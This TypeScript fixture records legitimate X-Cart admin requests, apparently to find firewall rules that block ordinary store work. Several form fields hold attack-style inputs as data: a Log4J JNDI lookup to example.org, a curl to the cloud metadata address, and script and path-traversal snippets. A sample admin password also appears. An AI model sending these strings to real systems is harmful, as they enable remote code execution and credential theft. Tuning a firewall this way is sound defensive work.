import { recorder, upload } from "./recorded.ts";

const { page, background, form, sent } = recorder("staff");
const admin = "/admin/?";
const found = (...hints: string[]) => ({ hints });
const long = found("core=SizeRestrictions_BODY");

/** A day of staff in the administration, from their own addresses, signed in (5.4.1.23 as a browser drove it; 5.5.0.29 classes/XLite/Controller/Admin). */
export const staffWork = [
  page("the administration", "/admin/", { needed: "the administration" }),
  form("X-Cart's own sign-in", "/admin/", { target: "login", action: "login", login: "owner@example.com", password: "Sommer2026!" }),
  page("products", "/admin/?target=product_list"),
  page("a product", "/admin/?target=product&product_id=35"),
  form("prices in the list of products", admin, {
    ...{ target: "product_list", action: "updateItemsList", "data[35][price]": "9.99", returnURL: "/admin/?target=product_list" },
    itemsList: "XLite\\View\\ItemsList\\Model\\Product\\Admin\\Search",
  }),
  form(
    "a product's description with pictures",
    "/admin/?target=product&action=update&product_id=35",
    {
      "form[default][description]": '<img src="../../images/content/a.png"><p style="color: red">',
    },
    found("core=GenericLFI_BODY", "core=CrossSiteScripting_BODY"),
  ),
  form(
    "a long description",
    "/admin/?target=product&action=update&product_id=35",
    { "form[default][description]": "text ".repeat(2000) },
    long,
  ),
  form(
    "custom CSS",
    admin,
    { target: "custom_css", action: "save", use: "1", code: "a{background:url(../../images/a.png)}" },
    found("core=GenericLFI_BODY"),
  ),
  form(
    "custom JavaScript",
    admin,
    { target: "custom_js", action: "save", code: "$(function(){ alert(1) })" },
    found("core=CrossSiteScripting_BODY"),
  ),
  form(
    "a page with links",
    admin,
    { target: "page", action: "update", body: '<a href="http://192.0.2.5/manual">manual</a>' },
    found("core=GenericRFI_BODY"),
  ),
  form(
    "a page about the cloud",
    admin,
    { target: "page", action: "update", body: "curl http://169.254.169.254/latest/" },
    found("core=EC2MetaDataSSRF_BODY"),
  ),
  form(
    "a page about Java",
    admin,
    { target: "page", action: "update", body: "\u0024{jndi:ldap://example.org/a}" },
    found("known-bad-inputs=Log4JRCE_BODY"),
  ),
  sent(
    "a product's picture",
    "/admin/?is_image=1&max_height=120&multiple=1&name=form%5Bdefault%5D%5Bimages%5D&target=files&action=uploadFromFile&uiSortable=%5Bobject%20Object%5D",
    upload({ xcart_form_id: "a" }, 40),
    long,
  ),
  sent("a picture in the editor", "/admin/?target=files&action=upload_from_file&mark=froala", upload({ n: "1" }, 40), long),
  sent(
    "a picture by its address",
    "/admin/?target=files&action=upload_from_url",
    { url: "https://cdn.example.org/a.png?x=../../b" },
    found("core=GenericRFI_BODY"),
  ),
  sent("a file to be imported", "/admin/?target=import&action=upload", upload({ xcart_form_id: "a" }, 60, "products.csv"), long),
  sent("a part of a large file", "/admin/?target=chunk_upload&action=process_chunk&basename=a1b2", upload({}, 500, "blob"), long),
  form("the beginning of an import", admin, { target: "import", action: "import", "options[charset]": "UTF-8" }),
  sent("a step of an import", "/admin/?target=event_task&action=run&event=import", "", { repeated: { count: 600, every: 1 } }),
  form("the beginning of an export", admin, {
    ...{ target: "export", action: "export", "section[]": "XLite\\Logic\\Export\\Step\\Products", "options[files]": "local" },
  }),
  page("orders", "/admin/?target=order_list&action=search&filter_id=recent"),
  page("an order", "/admin/?target=order&order_number=7"),
  form("a note about an order", admin, { target: "order", action: "update", order_id: "7", "adminNotes[7]": "called; select best <b>" }),
  page("an invoice", "/admin/?target=order&order_number=7&mode=invoice&printable=1"),
  page("customers", "/admin/?target=profile_list&action=search&substring=o%27neil%40example.org"),
  page("categories", "/admin/?target=root_categories"),
  background("a category to choose", "/admin/?target=search_categories&search=sho&page=1&_=1"),
  background("a product to choose", "/admin/?target=model_product_selector&search=a%27b&_=2"),
  form("the company's data", admin, { target: "settings", action: "update", page: "Company", company_name: 'Shop & Sons; "Best"' }),
  page("payment methods", "/admin/?target=payment_settings"),
  background("a payment method on", "/admin/?target=payment_settings&action=switch&id=4&_=3"),
  page("add-ons", "/admin/?target=apps"),
  page("logs", "/admin/?target=logs"),
  page("a log", "/admin/?target=log&action=view&log=2026%2F11%2Fxlite.2026-11-29.log", found("core=RestrictedExtensions_QUERYARGUMENTS")),
  page("a notification", "/admin/?target=notification&templatesDirectory=modules%2FXC%2FReviews%2Freview_key&page=customer"),
  form(
    "a template of a mail",
    admin,
    { target: "notification_editor", action: "save", template: "<script>{{ order.items|join(',') }}</script>" },
    found("core=CrossSiteScripting_BODY"),
  ),
  sent(
    "a text edited in place",
    admin,
    { target: "inline_editable", action: "update_field", value: '<p onclick="x()">Great</p>' },
    found("core=CrossSiteScripting_BODY"),
  ),
  sent("the layout editor", "/admin/?target=theme_tweaker&action=switch_mode", { mode: "layout_editor" }),
  sent("a password asked for again", admin, { target: "confirm", action: "confirm_with_password", password: "x" }),
  sent("cache to be rebuilt", "/admin/?target=cache_management&action=rebuild", ""),
  page(
    "back from Stripe's page",
    "/admin/?target=stripe_oauth&action=return&code=ac_1--2a&state=x&scope=read_write",
    found("sqli=SQLi_QUERYARGUMENTS"),
  ),
  background("what an icon in the bar says", "/admin/?target=main&action=set_notifications_as_read&_=4"),
  page("back from the sign-in", "/oauth2/idpresponse?code=1f--2a&state=mXn%2BQ%3D%3D%27%23", {
    ...found("sqli=SQLi_QUERYARGUMENTS"),
    needed: "the return from the sign-in",
  }),
  page("the service tool", "/service.php/?locale=en"),
  page("signing out", "/admin/?target=login&action=logoff"),
];
